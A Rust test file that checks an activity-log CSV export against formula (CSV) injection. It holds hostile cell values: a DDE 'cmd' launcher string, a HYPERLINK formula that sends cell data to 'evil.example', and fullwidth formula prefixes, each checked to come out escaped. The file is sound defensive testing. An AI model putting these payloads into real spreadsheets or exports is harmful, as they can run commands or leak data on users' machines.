//! R29: tests the exact bytes of the CSV.

use super::*;
use crate::activity_log::LogEntry;
use crate::activity_log::csv::{header, rows};

const GOLDEN: &str = include_str!("golden.csv");

const NAMES: [&str; 14] = [
    "+1",
    "-1",
    "\tTab",
    "\rReturn",
    "Line\r\n=break",
    "'",
    "|x",
    " =1",
    "x;=cmd|' /C calc'!A0",
    "x\t+1",
    "\"=1\";\"@SUM(1)\"",
    "x; ＝1",
    "＋1,－2",
    "x ＠SUM(1)",
];

/// A log full of hostile texts, including some that people could not type.
async fn hostile() -> World {
    let world = World::new().await;
    world.group("acme", &user("@SUM(1+1)"), vec![registered()]).await;
    world.tick();
    let name = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let first = vec![created("acme", name), invited()];
    world.app(APP, &user("Jürgen “Jü” Öz, \"Admin\""), first).await;
    for name in NAMES {
        world.tick();
        let mut by = user(name);
        by.request_id = format!("-{name}");
        let fact = vec![described("Moves, \\\"mostly\\\"\\n=2", "=1+1")];
        world.app(APP, &by, fact).await;
    }
    world
}

fn read(csv: &[u8]) -> Vec<Vec<String>> {
    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(csv);
    let records = reader.records().map(|record| record.unwrap());
    records
        .map(|record| record.iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn r29_the_csv_has_exactly_these_bytes() {
    let csv = hostile().await.text(group("acme"), ALL, LogFormat::Csv).await;
    assert_eq!(csv, GOLDEN);
}

#[tokio::test]
async fn r29_no_cell_can_act_as_a_formula() {
    let csv = hostile()
        .await
        .pieces(group("acme"), ALL, LogFormat::Csv)
        .await
        .concat();
    let rows = read(&csv);
    assert_eq!(rows.len(), 4 + NAMES.len());
    assert!(rows[2][4].starts_with("'=HYPERLINK("), "{:?}", rows[2]);
    assert!(rows[1][6].starts_with("'@SUM(1+1) registered"), "{:?}", rows[1]);
    let actors: Vec<_> = rows[4..].iter().map(|row| row[9].as_str()).collect();
    assert_eq!(
        actors,
        [
            "'+1",
            "'-1",
            "'\tTab",
            "'\rReturn",
            "Line\r\n'=break",
            "'",
            "|x",
            " '=1",
            "x;'=cmd|' /C calc'!A0",
            "x\t'+1",
            "\"'=1\";\"'@SUM(1)\"",
            "x; '＝1",
            "'＋1,'－2",
            "x '＠SUM(1)",
        ]
    );
    let text = String::from_utf8(csv).unwrap();
    for separator in [',', ';', '\t', '|'] {
        let cells = as_opened(&text, separator);
        assert!(cells.len() >= rows.len(), "{separator:?}: {}", cells.len());
        for cell in cells {
            let shown = cell.trim_start_matches(' ');
            assert!(!shown.starts_with(FORMULA_STARTS), "{separator:?}: {cell:?}");
        }
    }
}

const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// The cells as a spreadsheet with this separator sees them: a quote opens only at the start of a cell, and text after
/// the closing quote up to the separator belongs to the cell.
fn as_opened(text: &str, separator: char) -> Vec<String> {
    let (mut cells, mut cell) = (Vec::new(), String::new());
    let (mut quoted, mut begins) = (false, true);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if begins => quoted = true,
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' if quoted => quoted = false,
            c if !quoted && (c == separator || c == '\n') => {
                cells.push(std::mem::take(&mut cell));
                begins = true;
                continue;
            }
            // At the end of a line it is not part of the cell.
            '\r' if !quoted && chars.peek() == Some(&'\n') => {}
            c => cell.push(c),
        }
        begins = false;
    }
    cells.push(cell);
    cells
}

#[tokio::test]
async fn r29_the_same_range_gives_the_same_bytes() {
    let world = hostile().await;
    for format in [LogFormat::Csv, LogFormat::Ndjson] {
        for scope in [group("acme"), Scope::App(APP)] {
            let once = world.pieces(scope.clone(), ALL, format).await;
            assert_eq!(once, world.pieces(scope, ALL, format).await);
        }
    }
}

#[tokio::test]
async fn r28_neither_file_holds_a_digest() {
    let world = hostile().await;
    let stored = world.stored().await;
    assert!(stored.iter().any(|event| event.payload.contains(DIGEST)));
    for format in [LogFormat::Csv, LogFormat::Ndjson] {
        let text = world.text(group("acme"), ALL, format).await;
        assert!(text.contains("DeveloperInvited"));
        assert!(!text.contains(DIGEST), "{text}");
        assert!(!text.contains("_digest"), "{text}");
    }
}

#[tokio::test]
async fn r29_every_row_has_the_columns_of_the_header_and_ends_with_crlf() {
    let world = hostile().await;
    let header = header().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&header),
        "\"position\",\"sequence\",\"recorded_at\",\"app_id\",\"app_name\",\"event\",\"summary\",\"actor_type\",\
         \"actor_id\",\"actor_name\",\"ip_address\",\"request_id\",\"details\",\"previous_hash\",\"hash\"\r\n"
    );
    for stored in world.stored().await {
        let row = rows(vec![stored.clone()], None).unwrap();
        assert!(row.ends_with(b"\r\n"));
        assert_eq!(read(&row)[0].len(), LogEntry::COLUMNS.len());
    }
}
